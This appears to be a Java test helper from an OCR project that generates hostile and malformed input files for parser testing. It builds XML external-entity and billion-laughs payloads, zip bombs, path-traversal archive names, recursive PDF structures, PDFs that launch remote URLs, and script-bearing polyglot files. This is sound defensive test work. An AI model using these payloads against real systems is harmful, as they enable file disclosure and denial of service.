package dev.quern.ocr.reading.formats;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** Broken files and files made to do harm, by names that say what they are; all follow from seeds. */
final class HostileFiles {
    /** Of zipped formats: the part that is read, in which entities are declared. */
    private static final Map<String, String> XML_PARTS = Map.of(
            "docx", "word/document.xml",
            "xlsx", "xl/worksheets/sheet1.xml",
            "pptx", "ppt/slides/slide1.xml",
            "odt", "content.xml",
            "ods", "content.xml",
            "odp", "content.xml");

    private static final int MEGABYTE = 1 << 20;

    private final Map<String, byte[]> sound;
    private final String url;
    private final String secret;
    private final Map<String, Supplier<byte[]>> files = new LinkedHashMap<>();

    /**
     * @param sound files of all kinds, by name
     * @param url that nobody is to call
     * @param secret the address of a file that nobody is to read
     */
    HostileFiles(Map<String, byte[]> sound, String url, String secret) {
        this.sound = sound;
        this.url = url;
        this.secret = secret;
        truncations();
        flips();
        entities();
        zips();
        pdfs();
        images();
        texts();
        disguises();
    }

    /** Made when asked for: some are large. */
    Map<String, Supplier<byte[]>> all() {
        return files;
    }

    private void add(String name, Supplier<byte[]> content) {
        if (files.put(name, content) != null) {
            throw new IllegalArgumentException("Twice: " + name);
        }
    }

    private static String kind(String name) {
        return name.substring(name.lastIndexOf('.') + 1);
    }

    private void truncations() {
        sound.forEach((name, bytes) -> {
            for (int percent : new int[] {1, 30, 60, 95}) {
                add(
                        "cut at %d of 100.%s".formatted(percent, kind(name)),
                        () -> Arrays.copyOf(bytes, bytes.length * percent / 100));
            }
        });
    }

    private void flips() {
        sound.forEach((name, bytes) -> {
            for (int seed = 1; seed <= 3; seed++) {
                var random = new Random(1000L + seed);
                int flips = 4 * seed * seed;
                add("%d flips.%s".formatted(flips, kind(name)), () -> {
                    var wrong = bytes.clone();
                    for (int i = 0; i < flips; i++) {
                        wrong[random.nextInt(wrong.length)] = (byte) random.nextInt(256);
                    }
                    return wrong;
                });
            }
        });
    }

    private Map<String, String> prologs() {
        var laughs = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY z \"ha\">");
        String last = "z";
        for (char name = 'y'; name >= 'a'; name--) {
            laughs.append("<!ENTITY %s \"%s\">".formatted(name, ("&" + last + ";").repeat(10)));
            last = String.valueOf(name);
        }
        var entity = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a SYSTEM \"%s\">]>";
        return Map.of(
                "billion laughs", laughs.append("]>").toString(),
                "entity of a file", entity.formatted(secret),
                "entity of a server", entity.formatted(url + "entity"),
                "parameter entity",
                        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY %% p SYSTEM \"%sp\"> %%p;<!ENTITY a \"x\">]>"
                                .formatted(url));
    }

    private void entities() {
        prologs().forEach((what, prolog) -> {
            XML_PARTS.forEach((kind, part) -> add(
                    "%s.%s".formatted(what, kind),
                    () -> withPart(
                            sound.get("invoice." + kind),
                            part,
                            xml -> prolog
                                    + xml.replaceFirst("<\\?xml[^>]*>\\s*", "")
                                            .replaceFirst(">([^<>]*)</", ">&a;</"))));
            var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"%ssvg\"/><text>&a;</text></svg>"
                    .formatted(url);
            add(what + ".xml", () -> (prolog + "<order><p>Total &a;</p></order>").getBytes(UTF_8));
            add(
                    what + ".xhtml",
                    () -> (prolog
                                    + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>&a;</p>%s</body></html>"
                                            .formatted(svg))
                            .getBytes(UTF_8));
            add(
                    what + " in svg.html",
                    () -> "<!DOCTYPE html><html><link rel=stylesheet href=\"%scss\"><body>%s<img src=\"%simg\">%s"
                            .formatted(url, prolog, url, svg)
                            .getBytes(UTF_8));
            add(
                    what + " in xfa.pdf",
                    () -> pdf(
                            "/AcroForm <</XFA 5 0 R /Fields []>>",
                            "BT /F 12 Tf 60 700 Td (words) Tj ET",
                            stream(5, "", (prolog + "<xdp>&a;</xdp>").getBytes(UTF_8))));
        });
    }

    private void zips() {
        for (var kind : XML_PARTS.keySet()) {
            var whole = sound.get("invoice." + kind);
            add("flat bomb." + kind, () -> withParts(whole, Map.of("media/bomb.bin", new byte[30 * MEGABYTE])));
            add("nested bomb." + kind, () -> {
                var inner = zip(Map.of("0", new byte[30 * MEGABYTE]));
                for (int i = 0; i < 5; i++) {
                    inner = zip(Map.of("a.zip", inner, "b.zip", inner));
                }
                return withParts(whole, Map.of("media/nested.zip", inner));
            });
            add("overlapping bomb." + kind, () -> overlapping(whole));
            add(
                    "names that climb." + kind,
                    () -> withParts(
                            whole,
                            Map.of(
                                    "../../../escaped-1", new byte[10],
                                    "/escaped-2", new byte[10],
                                    "..\\..\\escaped-3", new byte[10],
                                    "nul\0/../escaped-4", new byte[10])));
            add(
                    "deep xml." + kind,
                    () -> withPart(
                            whole, XML_PARTS.get(kind), xml -> "<?xml version=\"1.0\"?>" + "<a>".repeat(100_000)));
            add(
                    "a part of one word." + kind,
                    () -> withPart(
                            whole,
                            XML_PARTS.get(kind),
                            xml -> xml.replaceFirst(">([^<>]*)</", ">" + noise(2 * MEGABYTE) + "</")));
        }
    }

    private void pdfs() {
        var text = "BT /F 12 Tf 60 700 Td (words) Tj ET";
        add("page tree that bites its tail.pdf", () -> ascii("""
                %PDF-1.4
                1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj
                2 0 obj <</Type /Pages /Kids [2 0 R 3 0 R] /Count 2>> endobj
                3 0 obj <</Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1>> endobj
                trailer <</Root 1 0 R /Size 4>>
                """));
        add("deep page tree.pdf", () -> {
            var tree = new StringBuilder("%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n");
            for (int i = 2; i < 20_000; i++) {
                tree.append("%d 0 obj <</Type /Pages /Kids [%d 0 R] /Count 1>> endobj\n".formatted(i, i + 1));
            }
            return ascii(tree + "trailer <</Root 1 0 R /Size 20001>>\n");
        });
        add(
                "wide page tree.pdf",
                () -> ascii(
                        "%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids ["
                                + "3 0 R ".repeat(200_000)
                                + "] /Count 200000>> endobj\n3 0 obj <</Type /Page /MediaBox [0 0 600 800]>> endobj\ntrailer <</Root 1 0 R>>\n"));
        add("deep arrays.pdf", () -> ascii("%PDF-1.4\n1 0 obj " + "[".repeat(500_000) + "\ntrailer <</Root 1 0 R>>\n"));
        add(
                "table that follows itself.pdf",
                () -> ascii(
                        "%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer <</Root 1 0 R /Prev 9>>\nstartxref\n9\n%%EOF"));
        add("length of itself.pdf", () -> ascii("""
                        %PDF-1.4
                        1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj
                        2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
                        3 0 obj <</Type /Page /Parent 2 0 R /Contents 4 0 R>> endobj
                        4 0 obj <</Length 4 0 R>> stream
                        q
                        endstream endobj
                        trailer <</Root 1 0 R>>
                        """));
        add(
                "form that draws itself.pdf",
                () -> pdf(
                        "",
                        "/X Do " + text,
                        stream(
                                5,
                                "/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources <</XObject <</X 5 0 R>>>>",
                                ascii("/X Do /X Do"))));
        add("content that unpacks to half a gigabyte.pdf", () -> pdf("", text, packed(4, "", ' ', 512)));
        add("content of endless saving.pdf", () -> pdf("", text, stream(4, "", ascii("q ".repeat(2_000_000)))));
        add(
                "content of endless lines.pdf",
                () -> pdf("", text, stream(4, "", ascii("0 0 m 9 9 l S ".repeat(400_000)))));
        add(
                "content of endless words.pdf",
                () -> pdf(
                        "",
                        text,
                        stream(
                                4,
                                "",
                                ascii("BT /F 1 Tf 9 9 Td " + "(words and words) Tj 0 1 Td ".repeat(100_000) + "ET"))));
        add(
                "huge image.pdf",
                () -> pdf(
                        "",
                        "600 0 0 800 0 0 cm /X Do",
                        packed(
                                5,
                                "/Type /XObject /Subtype /Image /Width 90000 /Height 90000 /ColorSpace /DeviceRGB /BitsPerComponent 8",
                                0,
                                1)));
        add(
                "image of more than it says.pdf",
                () -> pdf(
                        "",
                        "600 0 0 800 0 0 cm /X Do",
                        packed(
                                5,
                                "/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8",
                                0,
                                300)));
        add(
                "image masked by itself.pdf",
                () -> pdf(
                        "",
                        "600 0 0 800 0 0 cm /X Do",
                        packed(
                                5,
                                "/Type /XObject /Subtype /Image /Width 1000 /Height 1000 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 5 0 R",
                                0,
                                1)));
        add(
                "pattern that paints itself.pdf",
                () -> pdf(
                        "",
                        "/Pattern cs /X scn 0 0 600 800 re f",
                        stream(
                                5,
                                "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources <</Pattern <</X 5 0 R>>>>",
                                ascii("/Pattern cs /X scn 0 0 1 1 re f"))));
        add(
                "font that is its own descendant.pdf",
                () -> pdf(
                        "",
                        "BT /X 12 Tf 60 700 Td (words) Tj ET",
                        ascii(
                                "5 0 obj <</Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /Encoding /Identity-H>> endobj\n")));
        add(
                "twenty filters.pdf",
                () -> pdf("", text, stream(4, "/Filter [" + "/FlateDecode ".repeat(20) + "]", new byte[100])));
        add("endless run lengths.pdf", () -> {
            var runs = new byte[2 * MEGABYTE];
            Arrays.fill(runs, (byte) 129);
            return pdf("", text, stream(4, "/Filter [/RunLengthDecode /RunLengthDecode]", runs));
        });
        add(
                "remote parts.pdf",
                () -> pdf(
                        "/OpenAction <</S /URI /URI (%s)>> /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (app.launchURL\\('%s'\\))>>]>>>>"
                                .formatted(url, url),
                        text,
                        ascii("5 0 obj <</Type /XObject /Subtype /Form /F <</FS /URL /F (%sform)>>>> endobj\n"
                                .formatted(url))));
        add("huge page.pdf", () -> replaced(pdf("", text), "0 0 600 800", "0 0 9e9 9e9"));
        add("page of no size.pdf", () -> replaced(pdf("", text), "0 0 600 800", "5 5 5 5"));
        add("count of two thousand million.pdf", () -> replaced(pdf("", text), "/Count 1", "/Count 2147483647"));
    }

    private void images() {
        add("a pixel that is huge.png", () -> png(60_000, 60_000));
        add("a line of pixels.png", () -> png(2_000_000_000, 1));
        add("no pixels.png", () -> png(0, 0));
        add(
                "huge.gif",
                () -> bytes(ascii("GIF89a"), new byte[] {-1, -1, -1, -1, (byte) 0xF7, 0, 0}, new byte[768], new byte[] {
                    0x2C, 0, 0, 0, 0, -1, -1, -1, -1, 0, 8, 1, 0, 0, 0x3B
                }));
        add("huge.bmp", () -> bmp(50_000, 50_000));
        add("negative.bmp", () -> bmp(-5, Integer.MIN_VALUE));
        add(
                "huge.jpg",
                () -> bytes(
                        new byte[] {-1, -40, -1, -64, 0, 17, 8, -1, -1, -1, -1, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1},
                        new byte[1000]));
        add("directory that follows itself.tif", () -> tiff(8, 100, 100, 8));
        add("huge.tif", () -> tiff(8, 100_000, 100_000, 0));
        add("directory beyond the end.tif", () -> tiff(Integer.MAX_VALUE - 1, 10, 10, 0));
    }

    private void texts() {
        add("a million columns.csv", () -> ascii("1,".repeat(1_000_000)));
        add("a quote without end.csv", () -> ascii("\"" + "1,".repeat(1_000_000)));
        add("a million quotes.csv", () -> ascii("\"\",".repeat(999) + "\n" + "\"".repeat(1_000_001)));
        add("a million lines.csv", () -> ascii("1;2\n".repeat(1_000_000)));
        add("a line without end.txt", () -> ascii("x".repeat(4 * MEGABYTE)));
        add("a million words.txt", () -> ascii("a ".repeat(1_200_000)));
        add("a million pages.txt", () -> ascii("a\f".repeat(1_000_000)));
        add("zeros.txt", () -> new byte[MEGABYTE]);
        add("odd.txt", () -> new byte[] {-1, -2, 0x41});
        add("marks.txt", () -> ("a" + "\u0301".repeat(1_000_000)).getBytes(UTF_8));
        add("deep.html", () -> ascii("<html>" + "<div>".repeat(200_000) + "Total: 5"));
        add("deep tables.html", () -> ascii("<html>" + "<table><tr><td>".repeat(20_000) + "Total: 5"));
        add("wide.html", () -> ascii("<html><table><tr>" + "<td colspan=1000>1".repeat(20_000)));
        add("a tag without end.html", () -> ascii("<html><body " + "a='1' ".repeat(300_000)));
        add("entities.html", () -> ascii("<html>" + "&lt;&#xFFFFFFFF;&#0;".repeat(100_000)));
        add("deep.xml", () -> ascii("<a>".repeat(500_000)));
        add("attributes.xml", () -> {
            var xml = new StringBuilder("<a");
            for (int i = 0; i < 200_000; i++) {
                xml.append(" a").append(i).append("='1'");
            }
            return ascii(xml + "/>");
        });
        add("deep.rtf", () -> ascii("{\\rtf1" + "{".repeat(500_000)));
        add("binary.rtf", () -> ascii("{\\rtf1 {\\*\\bin2147483647 abc} words}"));
        add("folded.ics", () -> ascii("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:a\r\n" + " b\r\n".repeat(500_000)));
        add(
                "for ever.ics",
                () -> ascii(
                        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:20260101T000000Z\r\nRRULE:FREQ=SECONDLY\r\nEND:VEVENT\r\n"));
        add("deep.ics", () -> ascii("BEGIN:VCALENDAR\r\n" + "BEGIN:VEVENT\r\n".repeat(100_000)));
    }

    /** One file in two formats, and files by wrong names. */
    private void disguises() {
        add(
                "pdf before zip.pdf",
                () -> bytes(pdf("", "BT /F 12 Tf 60 700 Td (words) Tj ET"), sound.get("invoice.docx")));
        add("zip after image.png", () -> bytes(png(10, 10), zip(Map.of("../escaped-5", new byte[10]))));
        add(
                "script in image.gif",
                () -> bytes(ascii("GIF89a/*"), new byte[20], ascii("*/=1;<script src='%s'></script>".formatted(url))));
        add("html before pdf.html", () -> bytes(ascii("<html><script src='%s'></script>".formatted(url)), pdf("", "")));
        add("..\\..\\climbing.pdf", () -> pdf("", "BT /F 12 Tf 60 700 Td (words) Tj ET"));
        add("nul\0.pdf", () -> pdf("", "BT /F 12 Tf 60 700 Td (words) Tj ET"));
        var names = List.copyOf(sound.keySet());
        for (int i = 0; i < names.size(); i++) {
            var other = names.get((i + 3) % names.size());
            var bytes = sound.get(names.get(i));
            add("%s in truth.%s".formatted(kind(names.get(i)), kind(other)), () -> bytes);
        }
    }

    private static byte[] ascii(String text) {
        return text.getBytes(ISO_8859_1);
    }

    private static byte[] bytes(byte[]... parts) {
        var out = new ByteArrayOutputStream();
        for (var part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static String noise(int length) {
        var random = new Random(5);
        var noise = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            noise.append((char) ('a' + random.nextInt(26)));
        }
        return noise.toString();
    }

    private static byte[] replaced(byte[] bytes, String what, String by) {
        return ascii(new String(bytes, ISO_8859_1).replace(what, by));
    }

    /** A PDF of one page; an object of the same number later in the file goes before the usual one. */
    private static byte[] pdf(String catalog, String content, byte[]... objects) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(ascii("""
                %%PDF-1.7
                1 0 obj <</Type /Catalog /Pages 2 0 R %s>> endobj
                2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
                3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources <</XObject <</X 5 0 R>>
                  /Pattern <</X 5 0 R>> /Font <</X 5 0 R /F <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>>> endobj
                """.formatted(catalog)));
        out.writeBytes(stream(4, "", ascii(content)));
        for (var object : objects) {
            out.writeBytes(object);
        }
        out.writeBytes(ascii("trailer <</Root 1 0 R /Size 9>>\n"));
        return out.toByteArray();
    }

    private static byte[] stream(int number, String dictionary, byte[] content) {
        return bytes(
                ascii("%d 0 obj <<%s /Length %d>> stream\n".formatted(number, dictionary, content.length)),
                content,
                ascii("\nendstream endobj\n"));
    }

    /** A stream of the same byte, some megabytes of it. */
    private static byte[] packed(int number, String dictionary, int value, int megabytes) {
        var out = new ByteArrayOutputStream();
        var block = new byte[MEGABYTE];
        Arrays.fill(block, (byte) value);
        try (var deflater = new DeflaterOutputStream(out)) {
            for (int i = 0; i < megabytes; i++) {
                deflater.write(block);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return stream(number, dictionary + " /Filter /FlateDecode", out.toByteArray());
    }

    private static byte[] png(int width, int height) {
        var header = ByteBuffer.allocate(13).putInt(width).putInt(height).put(new byte[] {8, 2, 0, 0, 0});
        var data = new ByteArrayOutputStream();
        try (var deflater = new DeflaterOutputStream(data)) {
            deflater.write(new byte[MEGABYTE]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'},
                chunk("IHDR", header.array()),
                chunk("IDAT", data.toByteArray()),
                chunk("IEND", new byte[0]));
    }

    private static byte[] chunk(String type, byte[] content) {
        var crc = new CRC32();
        crc.update(ascii(type));
        crc.update(content);
        return bytes(
                ByteBuffer.allocate(4).putInt(content.length).array(),
                ascii(type),
                content,
                ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static byte[] bmp(int width, int height) {
        return ByteBuffer.allocate(200)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(ascii("BM"))
                .putInt(200)
                .putInt(0)
                .putInt(54)
                .putInt(40)
                .putInt(width)
                .putInt(height)
                .putShort((short) 1)
                .putShort((short) 24)
                .array();
    }

    private static byte[] tiff(int directory, int width, int height, int next) {
        var tiff = ByteBuffer.allocate(300).order(ByteOrder.LITTLE_ENDIAN);
        tiff.put(ascii("II")).putShort((short) 42).putInt(directory);
        int[][] entries = {
            {256, width}, {257, height}, {258, 8}, {259, 1}, {262, 1}, {273, 200}, {277, 1}, {278, height}, {279, 100}
        };
        tiff.putShort((short) entries.length);
        for (var entry : entries) {
            tiff.putShort((short) entry[0]).putShort((short) 4).putInt(1).putInt(entry[1]);
        }
        return tiff.putInt(next).array();
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] withParts(byte[] whole, Map<String, byte[]> more) {
        var parts = new LinkedHashMap<>(parts(whole));
        parts.putAll(more);
        return zip(parts);
    }

    private static byte[] withPart(byte[] whole, String name, UnaryOperator<String> change) {
        var parts = new LinkedHashMap<>(parts(whole));
        if (!parts.containsKey(name)) {
            throw new IllegalArgumentException("No " + name + " among " + parts.keySet());
        }
        parts.computeIfPresent(
                name, (same, bytes) -> change.apply(new String(bytes, UTF_8)).getBytes(UTF_8));
        return zip(parts);
    }

    private static Map<String, byte[]> parts(byte[] whole) {
        var parts = new LinkedHashMap<String, byte[]>();
        try (var in = new ZipInputStream(new ByteArrayInputStream(whole))) {
            for (var entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return parts;
    }

    /** The directory at the end names one part of a megabyte 5,000 times. */
    private static byte[] overlapping(byte[] whole) {
        var parts = new LinkedHashMap<>(parts(whole));
        parts.put("media/bomb", new byte[MEGABYTE]);
        var zip = zip(parts);
        var end = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        int tail = zip.length - 22;
        int count = end.getShort(tail + 10);
        int directory = end.getInt(tail + 16);
        int last = lastEntry(end, directory, count);
        var entry = Arrays.copyOfRange(zip, last, tail);
        var out = new ByteArrayOutputStream();
        out.write(zip, 0, tail);
        int copies = 5000;
        for (int i = 0; i < copies; i++) {
            // Another name of the same length.
            var name = ascii("media/%04d".formatted(i));
            System.arraycopy(name, 0, entry, 46, name.length);
            out.writeBytes(entry);
        }
        var trailer = ByteBuffer.wrap(Arrays.copyOfRange(zip, tail, zip.length)).order(ByteOrder.LITTLE_ENDIAN);
        trailer.putShort(8, (short) (count + copies)).putShort(10, (short) (count + copies));
        trailer.putInt(12, out.size() - directory);
        out.writeBytes(trailer.array());
        return out.toByteArray();
    }

    private static int lastEntry(ByteBuffer zip, int directory, int count) {
        int at = directory;
        for (int i = 1; i < count; i++) {
            at += 46 + zip.getShort(at + 28) + zip.getShort(at + 30) + zip.getShort(at + 32);
        }
        return at;
    }
}
